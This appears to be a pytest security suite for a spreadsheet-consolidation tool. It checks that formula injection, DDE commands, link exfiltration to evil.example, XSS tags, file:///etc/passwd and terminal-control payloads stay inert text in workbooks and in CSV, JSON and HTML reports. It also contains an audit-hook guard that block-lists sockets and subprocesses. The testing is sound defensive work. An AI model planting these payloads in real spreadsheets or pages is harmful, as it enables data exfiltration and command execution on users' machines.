"""Nothing that anybody typed, named or defined runs, links or steers: not in a workbook, a report or a terminal."""

from __future__ import annotations

import csv
import html.parser
import io
import json
import os
import re
import subprocess
import sys
import unicodedata
import zipfile
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from types import ModuleType
from xml.etree import ElementTree
from xml.sax.saxutils import escape

import openpyxl
import pytest
from folders import PERIOD, ROOT, folder, part, rezipped, run
from projects import read, sound
from templates import issued, painted

from lamppu_xl.domain.answer_ref import AnswerRef
from lamppu_xl.domain.project import Project
from lamppu_xl.domain.text_normalising import trimmed_text
from lamppu_xl.reports.formats import FORMATS
from lamppu_xl.workbook.text_split import clean_text

pytestmark = pytest.mark.slow


PAYLOADS = (
    "=cmd|'/c calc'!A1",
    "=1+1",
    "==1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"Avaa")',
    '=WEBSERVICE("http://evil.example/")',
    '=DDE("cmd";"/c calc";"x")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "+1+cmd|'/c calc'!A1",
    "-2+3+cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|'/c calc'!A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\uff1d1+1",
    "{=1+1}",
    "'=1+1",
    '";=1+1;"',
    "http://evil.example/",
    "mailto:evil@evil.example",
    "file:///etc/passwd",
    "internal:Sheet1!A1",
    "external:other.xlsx#Sheet1!A1",
    "\\\\evil.example\\share\\x.xlsx",
    "#N/A",
    "#REF!",
    "_x003D_1+1",
    "a\x00b\x01c\x07d\x0be",
    "\x1b[31mred\x1b]0;title\x07",
    "\x9b31mred",
    "a\u202egnp.exe\u202c \u2066x\u2069",
    "\ud83d alone",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    '&D&T&F&"Arial"&G',
    "]]><f>1+1</f><!-- ",
    "{value} {live} [[x]] %s {0.__class__}",
)
MARKS = ("cmd|", "evil", "1+1", "alert(1)", "calc")
"""What may stand in no formula, link or tag."""

FORM = """
title: Lomake
tables:
  results:
    title: Tulokset
    rows: goals
    fields:
      results: {label: Tulokset, previous: yes, max_length: 300}
      share: {label: Osuus, kind: percent}
  notes:
    title: Huomiot
    rows: {lines: 40}
    fields:
      text: {label: Teksti, max_length: 300}
      owner: {label: Omistaja, personal: yes, max_length: 300}
"""
PROJECT = """
project: {id: TEST, name: NAME, form: tiny, start: 2026-01-01, end: 2026-12-31, languages: [fi]}
periods:
  - {id: 2026-1, label: Kevät, start: 2026-01-01, end: 2026-06-30, deadline: 2026-07-15}
  - {id: 2026-2, label: Syksy, start: 2026-07-01, end: 2026-12-31, deadline: 2027-01-15}
partners:
  - {id: ALFA, name: Alfan opisto, roles: [coordinator, partner]}
goals:
"""
FIRST = "2026-1"


def quoted(text: str) -> str:
    """A text as YAML and JSON write it; a lone half of a pair has no place in either."""
    return json.dumps(text.replace("\ud83d", "\\ud83d"))


def project_text(*wordings: str, name: str = "Hanke", titles: tuple[str, ...] = ()) -> str:
    goals = "".join(
        f"  - {{id: G{number:02}, title: {quoted(titles[number] if number < len(titles) else f'Tavoite {number}')}, "
        f"wording: {quoted(wording)}}}\n"
        for number, wording in enumerate(wordings)
    )
    return PROJECT.replace("NAME", quoted(name)) + goals


PLAIN = [f"Sanamuoto {number}" for number in range(len(PAYLOADS))]


def plain_project() -> Project:
    return sound(read(project_text(*PLAIN), FORM))


def answered(project: Project, period: str, texts: tuple[str, ...], *, wrong: bool = False) -> bytes:
    """A return with each text in a goal, in a line and in a personal field."""
    answers: dict[AnswerRef, str | float] = {}
    for number, text in enumerate(texts):
        stored = text.replace("\ud83d", "HALF")
        answers[AnswerRef("results", f"G{number:02}", "results")] = stored
        answers[AnswerRef("notes", str(number + 1), "text")] = stored
        answers[AnswerRef("notes", str(number + 1), "owner")] = stored
        if wrong:
            answers[AnswerRef("results", f"G{number:02}", "share")] = stored
    data = painted(issued(project, "ALFA", period, answers=answers))
    # No program writes half a pair; a file may hold it as an escape all the same.
    return rezipped(data, lambda _, old: old.replace(b"HALF", b"_xD83D_"))


@pytest.fixture(scope="module")
def payloads_in(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A project with a return full of payloads in its first period, its master and the templates of its second."""
    return prepared(tmp_path_factory.mktemp("evil") / "hanke", PAYLOADS)


@pytest.fixture(scope="module")
def plain_in(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The same with plain words."""
    return prepared(
        tmp_path_factory.mktemp("plain") / "hanke", tuple(f"Teksti {number}" for number in range(len(PAYLOADS)))
    )


def prepared(at: Path, texts: tuple[str, ...]) -> Path:
    folder(at, project_text(*PLAIN), FORM)
    inbox = at / FIRST / "inbox"
    inbox.mkdir(parents=True)
    (inbox / "ALFA.xlsx").write_bytes(answered(plain_project(), FIRST, texts))
    ran = run("consolidate", at, "--period", FIRST)
    assert ran.code == 0, ran
    assert run("generate", at, "--period", PERIOD).code == 0
    (at / "wrong.xlsx").write_bytes(answered(plain_project(), FIRST, texts, wrong=True))
    assert run("feedback", at, at / "wrong.xlsx", "--period", FIRST, "--out", at / "feedback").code in (0, 1)
    return at


def master(at: Path) -> bytes:
    return (at / FIRST / "master.xlsx").read_bytes()


def feedback(at: Path) -> bytes:
    """The feedback to the partner: wrong answers as typed, and findings that quote them."""
    (made,) = (at / "feedback").glob("*.xlsx")
    return made.read_bytes()


def template(at: Path) -> bytes:
    return (at / PERIOD / "outbox" / f"TEST_{PERIOD}_ALFA.xlsx").read_bytes()


# Workbooks


def xml_parts(data: bytes) -> Iterator[tuple[str, ElementTree.Element]]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            yield name, ElementTree.fromstring(archive.read(name))


def formulas(data: bytes) -> Counter[str]:
    found: Counter[str] = Counter()
    for _, root in xml_parts(data):
        found.update(
            element.text or ""
            for element in root.iter()
            if element.tag.rpartition("}")[2] in ("f", "formula", "formula1")
        )
    return found


def links(data: bytes) -> Counter[tuple[str, ...]]:
    """Every relationship and hyperlink."""
    found: Counter[tuple[str, ...]] = Counter()
    for name, root in xml_parts(data):
        for element in root.iter():
            if element.tag.rpartition("}")[2] in ("Relationship", "hyperlink"):
                found[name, *sorted(f"{key}={value}" for key, value in element.attrib.items())] += 1
    return found


def texts(data: bytes) -> set[str]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return {cell.value for page in book for line in page.iter_rows() for cell in line if isinstance(cell.value, str)}


@pytest.mark.parametrize("made", [master, template])
def test_no_formula_and_no_link_comes_from_an_answer(made: object, payloads_in: Path, plain_in: Path) -> None:
    assert callable(made)
    evil, plain = made(payloads_in), made(plain_in)
    assert formulas(evil) == formulas(plain)
    assert not [formula for formula in formulas(evil) if any(mark in formula for mark in MARKS)]
    assert links(evil) == links(plain)
    assert not [link for link in links(evil) if "TargetMode=External" in link]
    kinds = Counter(
        cell.get("t") for name, root in xml_parts(evil) for cell in root.iter() if cell.tag.endswith("}c") and name
    )
    assert kinds["e"] == 0


def test_feedback_quotes_what_was_typed_and_runs_none_of_it(payloads_in: Path, plain_in: Path) -> None:
    """Its links lead to the cells that need correction. Payloads have more of them than plain words."""
    evil = feedback(payloads_in)
    assert formulas(evil) == formulas(feedback(plain_in))
    for mark in ("TargetMode=External", "evil"):
        assert not [link for link in links(evil) if any(mark in said for said in link)]
    shown = " ".join(text for text in texts(evil) if text.startswith(("Ei ", "G", "Korjattava")))
    assert "=cmd|" in shown
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069]", shown)


def test_every_payload_stands_in_the_master_as_it_was_typed(payloads_in: Path) -> None:
    """So that the test above does not pass because they were left out; only what no cell may hold is gone."""
    found = texts(master(payloads_in))
    plain = {text.replace("_x005F_", "_").strip() for text in found}
    for payload in PAYLOADS:
        expected = clean_text(trimmed_text(payload.replace("\ud83d", "\ufffd"))).strip()
        assert expected in plain, repr(payload)


def test_every_payload_is_carried_into_the_next_template(payloads_in: Path) -> None:
    found = " ".join(texts(template(payloads_in)))
    for mark in (*MARKS, "mailto:", "#N/A", "_x003D_1+1", "\uff1d1+1", "&D&T"):
        assert mark in found


def test_a_text_like_a_formula_is_marked_as_text(payloads_in: Path) -> None:
    """Typed again with F2 and Enter it would else become one."""
    for data in (master(payloads_in), template(payloads_in)):
        book = openpyxl.load_workbook(io.BytesIO(data))
        seen = 0
        for page in book:
            for line in page.iter_rows():
                for cell in line:
                    if (
                        isinstance(cell.value, str)
                        and cell.data_type == "s"
                        and cell.value.startswith(("=", "+", "-", "@"))
                    ):
                        seen += 1
                        assert cell.quotePrefix or cell.number_format == "@", (page.title, cell.coordinate)
        assert seen > 8


def test_an_escape_in_a_text_is_escaped_in_the_file(payloads_in: Path) -> None:
    for data in (master(payloads_in), template(payloads_in)):
        strings = part(data, "xl/sharedStrings.xml")
        assert "_x005F_x003D_1+1" in strings
        assert not re.search(r"(?<!_x005F)_x003D_1", strings)


def test_nothing_that_steers_stands_in_the_master(payloads_in: Path) -> None:
    strings = "".join(ElementTree.fromstring(part(master(payloads_in), "xl/sharedStrings.xml")).itertext())
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069]", strings)
    assert not re.search("_x00[01][0-9A-Fa-f]_", strings)


@pytest.mark.office
def test_libreoffice_computes_nothing_of_it(payloads_in: Path, office: ModuleType) -> None:
    """Recalculated by a real program, each payload is still its own text."""
    shown = {str(value) for value in office.cells(payloads_in / FIRST / "master.xlsx").values()}
    for payload in ("=1+1", "==1+1", "{=1+1}", "#N/A", "=cmd|'/c calc'!A1", "mailto:evil@evil.example"):
        assert payload in shown


# Definitions


def acceptable(*, title: bool = False) -> list[str]:
    """The payloads that a definition may hold as a wording or a title; the others are refused with a finding."""
    found = []
    for payload in PAYLOADS:
        loaded = read(project_text("Sana", titles=(payload,)) if title else project_text(payload), FORM)
        if loaded.project is None:
            assert all(finding.code.id.startswith("D") for finding in loaded.problems)
        else:
            found.append(payload)
    return found


def test_a_definition_is_refused_or_does_no_harm(tmp_path: Path) -> None:
    """Names of the project, of its partner and of goals."""
    held, titles = acceptable(), acceptable(title=True)
    assert len(held) >= 30
    assert len(titles) >= 9
    text = project_text(*held, name=held[0], titles=tuple(titles)).replace("Alfan opisto", quoted(held[0]))
    at = folder(tmp_path / "hanke", text, FORM)
    loaded = read(text, FORM)
    (at / PERIOD / "inbox" / "ALFA.xlsx").write_bytes(painted(issued(sound(loaded), "ALFA", PERIOD)))
    for command in ("generate", "validate", "consolidate"):
        ran = run(command, at, "--period", PERIOD)
        assert ran.code in (0, 1), ran
        harmless(ran.out + ran.err)
    for form in FORMATS:
        out = tmp_path / f"report.{form}"
        assert run("validate", at, "--period", PERIOD, "--format", form, "--output", out).code in (0, 1)
    for data in ((at / PERIOD / "master.xlsx").read_bytes(), template(at)):
        strange = [formula for formula in formulas(data) if re.search(r"cmd\|(?![^\"]*\")|WEBSERVICE|DDE\(", formula)]
        assert not [formula for formula in strange if not formula.startswith(("IF(", "HYPERLINK"))], strange
        assert not [link for link in links(data) if "TargetMode=External" in link]
        for name, root in xml_parts(data):
            for element in root.iter():
                if element.tag.rpartition("}")[2] in ("oddHeader", "oddFooter"):
                    codes = re.findall(r"&(\d+|.)", (element.text or "").replace("&&", ""))
                    assert set(codes) <= {*"LCRBPNA", "8"}, (name, element.text)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_name_of_a_project_is_refused_or_reported_harmlessly(tmp_path: Path, payload: str) -> None:
    at = folder(tmp_path / "hanke", project_text("Tavoite", name=payload), FORM)
    ran = run("check", at)
    assert ran.code in (0, 2)
    harmless(ran.out + ran.err)


# Reports


def harmless(text: str) -> None:
    """Nothing in a text steers a terminal or turns the direction of reading."""
    bad = {
        character for character in text if character != "\n" and unicodedata.category(character) in ("Cc", "Cf", "Cs")
    } - set("\u00ad\u200c\u200d")
    assert not bad, [f"U+{ord(character):04X}" for character in bad]


def file_name(payload: str) -> bytes:
    """A payload as a name that a file system takes: not even UTF-8."""
    return os.fsencode(payload.replace("/", "∕").replace("\x00", "").replace("\ud83d", "\udcff")[:80] + ".xlsx")


def sheet_renamed(data: bytes, payload: str) -> bytes:
    """A return one of whose sheets is called so, as far as XML can hold it."""
    name = escape(payload.encode("utf-8", "replace").decode(), {'"': "&quot;", "\n": " ", "\r": " ", "\t": " "})
    name = re.sub("[\x00-\x1f]", "", name)
    return rezipped(
        data,
        lambda each, old: (
            re.sub(rb'(<sheet name=")[^"]*', lambda match: match[1] + name.encode(), old, count=1)
            if each == "xl/workbook.xml"
            else old
        ),
    )


@pytest.fixture(scope="module")
def reported(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A project whose inbox is full of payloads: names of files and sheets, wrong answers."""
    at = folder(tmp_path_factory.mktemp("reports") / "hanke", project_text(*PLAIN), FORM)
    inbox, project = at / PERIOD / "inbox", plain_project()
    wrong = answered(project, PERIOD, PAYLOADS, wrong=True)
    (inbox / "wrong.xlsx").write_bytes(wrong)
    for number, payload in enumerate(PAYLOADS):
        name = os.fsencode(inbox) + b"/" + file_name(payload)
        data = b"no workbook %d" % number if number % 6 else sheet_renamed(wrong, payload)
        with open(name, "wb") as stream:  # noqa: PTH123  # the name is no text
            stream.write(data)
    return at


def report(at: Path, form: str) -> str:
    ran = run("validate", at, "--period", PERIOD, "--format", form)
    assert ran.code == 1, ran
    return ran.out


def test_a_report_on_the_terminal_steers_nothing(reported: Path) -> None:
    output = report(reported, "text")
    harmless(output)
    assert output.count("F1") >= 20


def test_a_report_as_csv_holds_no_formula(reported: Path) -> None:
    output = report(reported, "csv").removeprefix("\ufeff")
    harmless(output.replace("\r\n", "\n"))
    rows = list(csv.reader(io.StringIO(output), delimiter=";"))
    assert len(rows) > 60
    width = len(rows[0])
    starts = 0
    for line in rows:
        assert len(line) == width
        for cell in line:
            assert not cell.lstrip().startswith(("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")), cell
            starts += cell.startswith(("'=", "'+", "'-", "'@"))
    assert starts >= 8


def test_a_report_as_json_holds_no_raw_control(reported: Path) -> None:
    output = report(reported, "json")
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f]", output)
    output.encode("utf-8")
    assert json.loads(output)["summary"]["files"] == len(PAYLOADS) + 1


class Page(html.parser.HTMLParser):
    """Counts tags, and keeps where links lead."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: Counter[str] = Counter()
        self.events: list[str] = []
        self.targets: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags[tag] += 1
        self.events += [name for name, _ in attrs if name.startswith("on")]
        self.targets += [value or "" for name, value in attrs if name in ("href", "src", "action")]


@pytest.mark.skipif("html" not in FORMATS, reason="there is no such report")
def test_a_report_as_html_runs_nothing(reported: Path, plain_in: Path) -> None:
    output = report(reported, "html")
    harmless(output.replace("\t", ""))
    page, plain = Page(output), Page(run("validate", plain_in, "--period", FIRST, "--format", "html").out)
    assert page.tags["script"] == plain.tags["script"]
    assert page.tags["img"] == plain.tags["img"]
    assert not page.events
    assert not [target for target in page.targets if not target.startswith(("#", "data:image/"))]


def test_a_command_tells_names_of_files_harmlessly(reported: Path) -> None:
    for command in ("consolidate", "generate"):
        ran = run(command, reported, "--period", PERIOD)
        assert ran.code in (0, 1)
        harmless(ran.out + ran.err)


# Nothing is fetched, started or written elsewhere

GUARD = """
import os, sys
allowed = os.environ["ALLOWED"].split(os.pathsep)
quiet = open(os.environ["TOLD"], "a", buffering=1)
WRITES = os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC | os.O_APPEND
STARTS = ("socket.", "subprocess.", "os.exec", "os.posix_spawn", "os.spawn", "os.startfile", "urllib.", "ftplib.",
          "http.client", "smtplib.", "webbrowser.", "winreg.")
CHANGES = ("os.rename", "os.remove", "os.mkdir", "os.rmdir", "os.link", "os.symlink", "os.chmod", "os.chown",
           "os.utime", "os.truncate", "shutil.")
def inside(path, folder=None):
    if isinstance(path, int) or path is None:
        return True
    base = os.readlink(f"/proc/self/fd/{folder}") if isinstance(folder, int) and folder >= 0 else os.getcwd()
    whole = os.path.normpath(os.path.join(base, os.fsdecode(path)))
    return any(whole == place or whole.startswith(place + os.sep) for place in allowed)
def guard(event, arguments):
    bad = event.startswith(STARTS) or event in ("os.system", "os.fork", "os.forkpty")
    if event == "open":
        path, mode, flags = arguments
        bad = bool((flags or 0) & WRITES) and not inside(path)
    elif event.startswith(CHANGES):
        bad = not all(inside(one, arguments[-1]) for one in arguments if isinstance(one, (str, bytes, os.PathLike)))
    if bad:
        quiet.write(f"{event} {arguments!r}\\n")
sys.addaudithook(guard)
"""
"""Told to every process by way of `sitecustomize`; it writes down what it should never see."""


def guarded(tmp_path: Path, allowed: list[Path], *command: str | Path) -> tuple[int, str]:
    """Run a program under the guard: its exit code, and what it did that it should not."""
    site, report_file, temporary = tmp_path / "site", tmp_path / "reports", tmp_path / "temporary"
    site.mkdir(exist_ok=True)
    temporary.mkdir(exist_ok=True)
    (site / "sitecustomize.py").write_text(GUARD)
    report_file.write_text("")
    environment = {
        **os.environ,
        "PYTHONPATH": os.pathsep.join([str(site), str(ROOT)]),
        "PYTHONDONTWRITEBYTECODE": "1",
        "ALLOWED": os.pathsep.join(map(str, allowed)),
        "TOLD": str(report_file),
        "TMPDIR": str(temporary),
    }
    ran = subprocess.run(
        [sys.executable, *map(str, command)], env=environment, capture_output=True, text=True, check=False, timeout=120
    )
    assert "Traceback" not in ran.stderr, ran.stderr
    assert list(temporary.iterdir()) == []
    return ran.returncode, report_file.read_text()


@pytest.mark.parametrize(
    ("code", "event"),
    [
        ("import socket; socket.socket().close()", "socket."),
        ("import os; os.system('true')", "os.system"),
        ("import subprocess; subprocess.run(['true'])", "subprocess.Popen"),
        ("open('elsewhere', 'w').close()", "open"),
        ("import os; os.close(os.open('elsewhere', os.O_CREAT | os.O_WRONLY))", "open"),
        ("import os; os.mkdir('elsewhere_too')", "os.mkdir"),
    ],
)
def test_the_guard_sees_what_it_should(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, code: str, event: str) -> None:
    monkeypatch.chdir(tmp_path)
    assert event in guarded(tmp_path, [tmp_path / "allowed"], "-c", code)[1]


def test_reading_and_consolidating_starts_fetches_and_writes_nothing_elsewhere(
    tmp_path: Path, reported: Path, payloads_in: Path
) -> None:
    """Neither writes into an inbox, validate nothing at all; consolidating leaves nothing where it is made."""
    for at, period, form in ((reported, PERIOD, "text"), (payloads_in, FIRST, "csv")):
        code, output = guarded(tmp_path, [], "-m", "lamppu_xl", "validate", at, "--period", period, "--format", form)
        assert code in (0, 1)
        assert output == ""
        own = [at / period / "master.xlsx", at / period / "master.xlsx.sha256", at, tmp_path / "temporary"]
        code, output = guarded(tmp_path, own, "-m", "lamppu_xl", "consolidate", at, "--period", period)
        assert code in (0, 1)
        assert output == ""


def test_consolidating_writes_the_master_its_checksum_and_the_lock_alone(tmp_path: Path, payloads_in: Path) -> None:
    output = guarded(
        tmp_path,
        [tmp_path / "temporary"],
        "-m",
        "lamppu_xl",
        "consolidate",
        payloads_in,
        "--period",
        FIRST,
        "--out",
        tmp_path / "out" / "m.xlsx",
    )[1]
    written = {Path(name).name for name in re.findall(r"'([^']*/[^']*)'", output)}
    assert all(re.match(r"m\.xlsx(\.sha256)?$|\.lamppu-xl\.|out$", name) for name in written), written
    assert "inbox" not in output
